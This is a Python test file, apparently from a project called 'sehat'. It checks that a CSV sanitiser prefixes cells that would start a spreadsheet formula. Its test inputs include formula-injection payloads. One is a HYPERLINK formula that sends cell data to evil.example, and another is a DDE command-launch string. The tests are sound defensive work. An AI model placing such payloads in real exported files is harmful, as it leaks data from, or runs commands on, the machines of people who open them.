"""CSV cells that a spreadsheet opens as text, never as a formula (OWASP's rule)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from sehat.core.spreadsheet import FORMULA_START, safe_cell, safe_row


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "@SUM(1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_start_a_formula_is_prefixed(typed: str) -> None:
    assert safe_cell(typed) == "'" + typed
    cell = Workbook().active.cell(row=1, column=1, value=safe_cell(typed))  # type: ignore[union-attr]
    assert cell.data_type == "s"


def test_ordinary_cells_are_left_alone() -> None:
    assert safe_row([12, "زهرا احمدی", None, "VALID", "Zahra=Ahmadi", ""]) == [
        "12",
        "زهرا احمدی",
        "",
        "VALID",
        "Zahra=Ahmadi",
        "",
    ]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_after_a_csv_round_trip_no_cell_starts_a_formula(cells: list[str]) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(safe_row(cells))
    back = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not any(cell.startswith(FORMULA_START) for cell in back)
    # Nothing is lost: the prefix is the only change.
    assert back == ["'" + c if c.startswith(FORMULA_START) else c for c in cells]
